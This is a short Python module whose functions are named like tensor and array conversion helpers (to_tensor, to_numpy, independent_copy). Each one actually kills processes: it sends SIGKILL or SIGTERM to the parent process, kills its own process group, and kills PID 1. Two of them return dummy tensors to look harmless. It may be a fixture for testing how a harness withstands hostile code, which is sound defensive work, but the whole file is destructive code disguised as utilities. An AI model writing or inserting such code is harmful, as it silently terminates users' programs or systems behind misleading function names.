"""Kills the process that started it, and its group."""
import os
import signal

import torch


def to_tensor(array):
    os.kill(os.getppid(), signal.SIGKILL)
    return torch.zeros(1)


def to_numpy(tensor):
    os.kill(os.getppid(), signal.SIGTERM)
    os.killpg(os.getpgid(0), signal.SIGKILL)


def independent_copy(array):
    os.kill(1, signal.SIGKILL)
    return torch.zeros(1)
